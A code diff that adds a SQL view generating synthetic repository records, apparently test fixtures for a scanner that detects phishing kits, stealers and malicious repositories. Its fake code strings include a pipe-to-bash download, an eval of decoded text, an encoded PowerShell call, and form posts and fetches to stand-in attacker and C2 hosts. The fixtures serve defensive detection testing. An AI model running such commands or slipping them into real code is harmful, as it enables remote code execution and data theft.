@@ -38,6 +38,31 @@ select c.c_custkey as repo_id, 'ws' || cast(c.c_custkey % 3 as string) as worksp
   c.c_nationkey % 4 as brand_id, cast(floor(c.c_acctbal) as bigint) % 40 as followers, e.ts as created_at, p.ts as pushed_at,
   case when c.c_custkey % 17 = 0 then null else 'sha' || cast(c.c_custkey % 97 as string) end as commit_sha
 from {customer} c left join {events} e on e.event_id = c.c_custkey left join {events} p on p.event_id = c.c_custkey * 5""",
+    # repositories with what every rule looks for in some of them: brand_id may be null, paths are joined by commas
+    "suspects": """
+select r.repo_id, r.owner, r.full_name, case when r.repo_id % 10 = 9 then null else r.brand_id end as brand_id, r.description,
+  case when r.repo_id % 20 = 5 then 900 else r.stars % 6 end as stars, r.forks % 3 as forks, r.is_fork, r.created_at,
+  case r.repo_id % 4 when 0 then r.created_at when 1 then r.created_at - interval '3000' day end as owner_created_at,
+  case r.repo_id % 3 when 0 then 0 when 1 then 7 end as followers,
+  case r.repo_id % 5 when 0 then null when 1 then 1 else 4 end as public_repos,
+  case when r.repo_id % 7 < 4 then coalesce(b.brand_name, 'Nobody') || ' tools' else 'Some tools' end || chr(10) ||
+    case r.repo_id % 13 when 0 then 'phishing kit for ' || lower(coalesce(b.brand_name, 'all'))
+      when 1 then 'go to the login page' when 2 then 'a stealer and keylogger in one'
+      when 3 then 'obfuscated loader, malware inside' when 4 then 'crack with payload' || chr(10) || 'powershell -enc AAAA'
+      when 5 then 'otp bypass, 2fa bypass and fake login' when 6 then 'apktool and smali for a mod apk'
+      when 7 then lower(coalesce(b.brand_name, 'any')) || ' support'
+      when 8 then 'Free ' || coalesce(b.brand_name, 'any') || ' wallet login and kyc, free money'
+      when 9 then 'verify account on the login page' when 10 then lower(coalesce(b.brand_name, 'any')) || ' clone'
+      when 11 then 'a Login Kit, see owner3 APK' when 12 then 'myWallet and LoginKit' end || chr(10) || coalesce(d.text, '') as readme_text,
+  case r.repo_id % 9 when 0 then 'app/release.apk,vercel.json' when 1 then 'run.ps1,src/Procfile'
+    when 2 then 'README.md,src/machinery-wallet.py' when 3 then 'a/netlify.toml,b/fly.toml,c/vercel.json' else 'README.md' end as paths,
+  case r.repo_id % 11 when 0 then 'x' || chr(10) || 'curl y | base64 -d | bash' when 1 then 'eval( atob("aGk="))'
+    when 2 then '<form method="post" action="https://Evil' || cast(r.repo_id % 50 as string) || '.example/a">'
+    when 3 then 'fetch("https://cdn.jsdelivr.net/x"); fetch(''/relative'')'
+    when 4 then 'axios.post(''https://api.machinery.com/x''); webhook_url = "https://hook.example/1"'
+    when 5 then 'a' || chr(10) || 'b' || chr(10) || 'powershell -enc AAAA; fetch(''https://c2.example/b'') fetch(''https://c2.example/c'')'
+    when 6 then 'the ' || coalesce(b.brand_name, 'any') || ' payment and trading app' end as code
+from {repositories} r left join {brands} b on b.brand_id = r.brand_id and r.repo_id % 10 <> 9 left join {documents} d on d.doc_id = r.repo_id""",
     "findings": """
 select o.o_orderkey as finding_id, o.o_custkey as repo_id, 'ws' || cast(o.o_custkey % 3 as string) as workspace_id,
   case o.o_orderpriority when '1-URGENT' then 'critical' when '2-HIGH' then 'high' when '3-MEDIUM' then 'medium' else 'low' end as severity,
@@ -107,7 +132,7 @@ def twin(sql: str) -> str:
     """sql with the views that it names in braces as common table expressions before it."""
     names = [n for n in _needed(re.findall(r"\{(\w+)\}", sql)) if n in VIEWS]
     bare = lambda s: re.sub(r"\{(\w+)\}", r"\1", s)
-    heads = ",\n".join(f"{n} as ({bare(VIEWS[n])})" for n in names)
+    heads = ",\n".join(f"{n} as ({bare(VIEWS[n]).strip()})" for n in names)
     body = bare(sql).strip()
     if not heads:
         return body
